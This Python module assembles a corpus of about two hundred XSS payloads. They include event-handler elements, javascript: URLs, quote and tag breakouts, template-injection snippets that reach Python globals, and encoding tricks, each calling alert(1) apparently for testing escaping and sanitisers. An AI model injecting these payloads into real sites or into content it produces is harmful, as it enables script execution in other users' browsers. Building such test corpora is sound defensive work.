"""Two hundred texts that run a script where somebody forgets to escape, or that a template would take for its own.

Each calls `alert`, so a browser tells when one ran. Written from the HTML standard's own list of places where script
may stand: elements, attributes that hold events, URLs, styles, comments, raw text, and half-open quotes of each.
"""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"

_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<img/src/onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>",
    "<template><script>{run}</script></template>",
    "<a href=javascript:{run}>klik</a>",
    "<form action=javascript:{run}><button>ga</button></form>",
    "<marquee onstart={run}>x</marquee>",
    "<x onclick={run} autofocus tabindex=1 onfocus={run}>x</x>",
)
_BREAKS = ("", '"', "'", '">', "'>", "-->", "</textarea>", "</title>", "</style>", "</script>", "]]>", "`")
_OTHERS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    '" onmouseover="{run}',
    "' onfocus='{run}' autofocus='",
    '" style="background:url(javascript:{run})',
    "[klik](javascript:{run})",
    "![x](x){{onerror={run}}}",
    '![x](x "onerror={run}")',
    "[x]: javascript:{run}",
    "<javascript:{run}>",
    "{{{{ '<script>{run}</script>' }}}}",
    "{{{{ '<script>{run}</script>' | safe }}}}",
    "{{{{ config.__class__.__init__.__globals__ }}}}<script>{run}</script>",
    "{{% raw %}}<script>{run}</script>{{% endraw %}}",
    "{{{{ cycler.__init__.__globals__.os }}}}<img src=x onerror={run}>",
    "{{{{ self }}}}<svg onload={run}>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u202e<script>{run}</script>",
    "<scr\u200bipt>{run}</scr\u200bipt><script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "＜script＞{run}＜/script＞",
    "<!--><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "*/{run}/*",
    "';{run};//",
    '";{run};//',
    "`${{{run}}}`",
)

PAYLOADS: tuple[str, ...] = tuple(
    each.format(run=RUN)
    for each in (
        *_ELEMENTS,
        *_OTHERS,
        *(before + each for before, each in product(_BREAKS[1:], _ELEMENTS[:13])),
    )
)[:208]
